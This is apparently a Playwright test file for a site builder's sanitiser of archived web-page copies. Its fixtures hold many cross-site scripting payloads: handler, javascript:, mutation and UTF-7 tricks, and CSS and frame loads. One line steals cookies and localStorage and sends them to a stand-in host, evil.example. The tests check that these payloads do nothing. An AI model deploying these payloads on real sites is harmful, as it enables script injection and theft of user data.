"""Hostile pages of our own as archived copies, in a real browser: nothing runs, asks or reads."""

from __future__ import annotations

import random
import re
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, Request, Route, expect

from benchmarks.hosting import serve_folder
from site_builder.links.sanitise_copy import sanitise_copy
from site_builder.links.snapshots import snapshot_path
from tests.support.folders import run, write_folder

pytestmark = pytest.mark.browser

_RUN = "top.document.title='HIT';document.title='HIT';new Image().src='http://evil.example/hit'"

HOSTILE = {
    "handlers": f'<body onload="{_RUN}"><img src=x onerror="{_RUN}"><p onclick="{_RUN}">x',
    "scripts": f"<script>{_RUN}</script><script src=http://evil.example/x.js></script><p>x",
    "links": f'<a id=go href="javascript:{_RUN}">x</a>',
    "data-link": f'<a id=go href="data:text/html,<script>{_RUN}</script>">x</a>',
    "live-link": '<a id=go href="http://evil.example/live">x</a>',
    "svg": (
        f'<svg onload="{_RUN}"><script>{_RUN}</script><a id=go xlink:href="javascript:{_RUN}">'
        "<text y=20>x</text></a><image href=http://evil.example/i.png />"
        f'<foreignObject><iframe srcdoc="<script>{_RUN}</script>"></iframe></foreignObject>'
        "<use href=http://evil.example/s.svg#a /></svg>"
    ),
    "styles": (
        "<style>@import 'http://evil.example/a.css';@imp\\6f rt url(//evil.example/b.css);"
        "body{background:u\\72l(http://evil.example/c.png)}@font-face{font-family:f;"
        "src:url(http://evil.example/f.woff2)}p{font-family:f;"
        "list-style:image-set('//evil.example/d' 1x)}</style>"
        "<link rel=stylesheet href=//evil.example/e.css><p style=background:url(//evil.example/g)>x"
    ),
    "frames": (
        f'<iframe srcdoc="<script>{_RUN}</script>"></iframe><object data=http://evil.example/o>'
        "</object><embed src=http://evil.example/p><frameset><frame src=http://evil.example/q>"
    ),
    "refresh": '<meta http-equiv=refresh content="0;url=http://evil.example/r"><p>x',
    "base": "<base href=http://evil.example/><img src=s.png><a id=go href=t>x</a>",
    "form": "<form action=http://evil.example/u><input name=a autofocus><button id=go>x</button>",
    "media": (
        "<video src=http://evil.example/v autoplay poster=//evil.example/w></video>"
        "<audio src=http://evil.example/y autoplay></audio><img srcset='http://evil.example/z 1x'>"
        "<picture><source srcset=http://evil.example/a1><img></picture>"
        "<input type=image src=//evil.example/b1>"
    ),
    "preload": (
        "<link rel=preload as=image href=http://evil.example/1>"
        "<link rel=dns-prefetch href=//evil.example><link rel=manifest href=http://evil.example/2>"
        "<a id=go ping=http://evil.example/3 href=#a>x</a>"
    ),
    "mutation": (
        '<noscript><p title="</noscript><img src=x onerror=' + _RUN + '>">'
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror='
        + _RUN + '&gt;"><svg></p><style><a id="</style><img src=1 onerror=' + _RUN + '>">'
    ),
    "storage": (
        "<script>document.title=localStorage.secret+document.cookie;"
        "fetch('http://evil.example/'+localStorage.secret)</script><p>x"
    ),
    "nested": "<div>" * 10_000 + f"<img src=x onerror=\"{_RUN}\">",
    "formatting": "".join(f"<font size={n}><p>" for n in range(10_000)) + "<script>x()</script>",
    "large": ("<p onclick=x()>" + "面包和水" * 250 + "</p><img src=//evil.example/l>\n") * 10_400,
    "charset": "<meta charset=utf-7>+ADw-script+AD4-" + _RUN + "+ADw-/script+AD4-<p>x",
}  # fmt: skip
"""Pages by name."""


@dataclass(frozen=True, slots=True)
class Shelf:
    """A site whose lesson cites the hostile pages."""

    address: str
    """Of the site."""
    viewers: dict[str, str]
    """Path of the viewer by name."""
    folder: Path
    """Of the site."""


@pytest.fixture(scope="module")
def shelf(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Shelf]:
    """A site with one archived copy for each hostile page."""
    project = tmp_path_factory.mktemp("hostile")
    urls = {name: f"https://{name}.example/page" for name in HOSTILE}
    cited = "\n\n".join(f"[{name}]({url})" for name, url in urls.items())
    files = {"outline.md": f"# 课程\n\n## 1 1.1.1 欢迎 05:33\n\n{cited}\n"}
    for name, url in urls.items():
        files[snapshot_path(url, "outline.md").strip("/")] = HOSTILE[name]
    write_folder(project / "content", files)
    done = run("site-builder", "build", folder=project)
    assert done.returncode == 0, done.stderr
    folder = project / "build" / "site"
    viewers = {
        name: path.relative_to(folder).as_posix()
        for path in folder.glob("snapshots/*.html")
        for name in HOSTILE
        if path.name.startswith(f"{name}.example-") and not path.name.endswith(".copy.html")
    }
    with serve_folder(folder) as address:
        yield Shelf(address, viewers, folder)


def _watch(page: Page, shelf: Shelf, path: str) -> list[str]:
    """Opens ``path`` and clicks what wants to be clicked; returns what was asked for beside it."""
    asked: list[str] = []

    def note(request: Request) -> None:
        asked.append(request.url)

    page.add_init_script("try { localStorage.secret = 'HIT' } catch (error) { }")
    page.on("request", note)
    page.goto(shelf.address + path, wait_until="load", timeout=60_000)
    page.wait_for_timeout(300)
    for frame in page.frames:
        target = frame.query_selector("#go")
        if target is not None:
            target.dispatch_event("click")
            target.click(force=True, timeout=2_000, no_wait_after=True)
    page.wait_for_timeout(300)
    viewer_icon = f"{shelf.address}assets/app/icon.svg"
    own = (shelf.address + path, shelf.address + _copy_of(path), viewer_icon)
    return [url for url in asked if not url.startswith((*own, "data:"))]


def _copy_of(viewer: str) -> str:
    """The copy's own address."""
    return f"{viewer.removesuffix('.html').removesuffix('.copy')}.copy.html"


def test_each_hostile_page_has_a_viewer(shelf: Shelf) -> None:
    """No page is left out, however large or deep it is."""
    assert set(shelf.viewers) == set(HOSTILE)
    assert (shelf.folder / _copy_of(shelf.viewers["large"])).stat().st_size > 30_000_000


@pytest.mark.parametrize("own_address", [False, True], ids=["in its viewer", "at its own address"])
@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_page_does_nothing(
    browser: Browser,
    shelf: Shelf,
    name: str,
    own_address: bool,  # noqa: FBT001 (a parameter)
) -> None:
    """No script runs and no request leaves, in the viewer as at the copy's own address."""
    page = browser.new_page()
    viewer = shelf.viewers[name]
    path = _copy_of(viewer) if own_address else viewer

    asked = _watch(page, shelf, path)
    titles = [frame.evaluate("document.title") for frame in page.frames]
    address = page.url
    page.close()

    assert asked == []
    assert not [title for title in titles if "HIT" in title]
    assert address.partition("#")[0] == shelf.address + path


@pytest.mark.parametrize("name", ["handlers", "scripts", "svg", "styles", "refresh"])
def test_the_same_page_untouched_would_act(browser: Browser, name: str) -> None:
    """The watch sees what these pages do where nothing hinders them."""
    page = browser.new_page()
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.route("**/*", lambda route: route.abort())
    page.set_content(HOSTILE[name], wait_until="commit")
    page.wait_for_timeout(500)

    page.close()

    assert [url for url in asked if "evil.example" in url]


_PIECES = (
    "<script>", "</script>", "<style>", "</style>", "<svg>", "</svg>", "<math>", "<mtext>", "<mi>",
    "<p>", "</p>", "<br>", "</br>", "<table>", "<tr><td>", "<a href='", "'", '"', ">", "<!--",
    "-->", "--!>", "<![CDATA[", "]]>", "<title>", "</title>", "<noscript>", "</noscript>",
    "<img src=x onerror=hit()>", "onerror=hit() ", "<svg onload=hit()>", "<body onload=hit()>",
    "javascript:hit()", "<mglyph>", "<malignmark>", "<select>", "<template>", "</template>",
    "<foreignObject>", "<desc>", "<annotation-xml encoding=text/html>", "url(//evil.example/a)",
    "@import '//evil.example/b';", "\\75rl(//evil.example/c)", "&lt;", "&gt;", "\x00", "面",
    "<iframe srcdoc='<script>parent.hit()</script>'>", "<textarea>", "</textarea>", "<plaintext>",
    "<form>", "<input autofocus onfocus=hit()>", "<details open ontoggle=hit()>",
    "<set attributeName=onclick to=hit()>", "<a xlink:href=javascript:hit()>", "<font color='",
    "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/f>",
    "<b id='</style><img src=x onerror=hit()>'>", "title='</noscript><img src=x onerror=hit()>' ",
    "<form><math><mtext></form><form>", "style='background:url(//evil.example/g)' ",
)  # fmt: skip


def _act(browser: Browser, documents: Sequence[str]) -> list[int]:
    """Indices of the documents that run a script or ask for something."""
    acting: set[int] = set()
    at = 0
    context = browser.new_context()

    def answer(route: Route) -> None:
        if route.request.is_navigation_request() and route.request.url.endswith(f"/{at}"):
            route.fulfill(content_type="text/html; charset=utf-8", body=documents[at])
            return
        acting.add(at)
        route.abort()

    context.route("**/*", answer)
    context.add_init_script("window.hits = 0; window.hit = () => { window.hits++ }")
    page = context.new_page()
    for at in range(len(documents)):
        page.goto(f"http://site.example/{at}")
        if page.evaluate("window.hits"):
            acting.add(at)
    context.close()
    return sorted(acting)


def test_the_sanitiser_alone_holds(browser: Browser) -> None:
    """Pieces of attacks put together at random do nothing, with neither policy nor sandbox."""
    chance = random.Random(1)
    pages = ["".join(chance.choices(_PIECES, k=chance.randint(2, 14))) for _ in range(60)]
    policy = re.compile(r'<meta http-equiv="Content-Security-Policy"[^>]*>')

    untouched = _act(browser, pages)
    sanitised = _act(browser, [policy.sub("", sanitise_copy(page)) for page in pages])

    assert len(untouched) >= 10
    assert [pages[index] for index in sanitised] == []


def test_a_copy_has_an_origin_of_its_own(browser: Browser, shelf: Shelf) -> None:
    """Were a script to run in a copy after all, it could read no storage of the site."""
    page = browser.new_page()
    page.goto(shelf.address + shelf.viewers["handlers"])
    (frame,) = (frame for frame in page.frames if frame.parent_frame is not None)

    origin = frame.evaluate("self.origin")
    sandbox = page.get_attribute("iframe", "sandbox")
    page.close()

    assert (origin, sandbox) == ("null", "")


def test_the_receipt_says_what_the_copy_is(browser: Browser, shelf: Shelf) -> None:
    """Address, size and hash stand on the viewer; the original can be reached from it."""
    page = browser.new_page()
    page.goto(shelf.address + shelf.viewers["form"])
    page.click("summary")

    text = page.inner_text("header")
    original = page.get_attribute("a[data-originalurl]", "href")
    page.close()

    assert "SHA-256" in text
    assert "保存日期不明" in text
    assert original == "https://form.example/page"


def test_the_lesson_leads_to_its_copies(browser: Browser, shelf: Shelf) -> None:
    """A reference card has the original with Robust Links attributes, and the copy."""
    page = browser.new_page()
    page.goto(f"{shelf.address}lessons/001/")

    card = page.locator(".references li", has_text="form.example")
    version = card.locator("a[data-originalurl]").get_attribute("data-versionurl")
    card.locator("a.copy").click()
    page.wait_for_selector("iframe")
    reached = page.url
    page.close()

    assert reached == shelf.address + shelf.viewers["form"]
    assert version == f"../../{shelf.viewers['form']}"


def test_copies_open_from_disk(browser: Browser, shelf: Shelf) -> None:
    """A viewer shows its copy on file:// too."""
    page = browser.new_page()
    page.goto((shelf.folder / shelf.viewers["form"]).as_uri())
    (frame,) = (frame for frame in page.frames if frame.parent_frame is not None)

    text = frame.inner_text("body")
    page.close()

    assert text == "x"


def test_search_and_sitemap_leave_copies_out(shelf: Shelf) -> None:
    """Neither the index nor the sitemap names a copy; both files ask not to be indexed."""
    indexes = [path for path in shelf.folder.joinpath("search").iterdir() if path.is_file()]

    assert indexes
    for path in (shelf.folder / "sitemap.xml", *indexes):
        assert "snapshots/" not in path.read_text(encoding="utf-8")
    for name in (shelf.viewers["form"], _copy_of(shelf.viewers["form"])):
        text = (shelf.folder / name).read_text(encoding="utf-8")
        assert '<meta name="robots" content="noindex">' in text


def test_the_text_of_copies_is_found_and_marked(
    browser: Browser, build_course: Callable[..., str]
) -> None:
    """A word that only a copy says leads to its viewer, below what the notes say, as a copy."""
    url = "https://flour.example/spelt"
    article = "<nav><a href=/>首页</a></nav><article><h1>斯佩尔特</h1>" + (
        "<p>丁克尔小麦的面筋比较脆弱，揉面时间要短。烘烤之前再静置一次，面团会更好整形。</p>" * 4
    )
    address = build_course(
        {
            "outline.md": f"# 课程\n\n## 1 1.1.1 揉面 05:33\n\n揉面要有耐心。[斯佩尔特]({url})\n",
            "course.yml": "search_snapshots: true\n",
            snapshot_path(url, "outline.md").strip("/"): (
                f"<title>古老的麦子</title>{article}</article><script>let 丁香</script>"
            ),
        }
    )
    page = browser.new_page()
    page.goto(address)
    items = page.locator(".md-search-result__item")
    page.fill("[data-md-component=search-query]", "揉面")
    page.wait_for_function(
        "document.querySelectorAll('.md-search-result__item').length > 1"
        " && document.querySelector('.lesson-search__copy')"
    )
    first, last = items.first.inner_text(), items.last.inner_text()
    page.fill("[data-md-component=search-query]", "丁克尔小麦")
    page.wait_for_function("document.querySelectorAll('.md-search-result__item').length == 1")
    expect(items.first.locator("article mark").first).to_have_text("丁克尔小麦")
    items.first.locator("a").first.click()
    page.wait_for_selector("iframe")
    reached = page.url
    page.close()

    assert "副本" not in first
    assert last.startswith("副本")
    assert "flour.example" in last
    assert "/snapshots/flour.example-" in reached
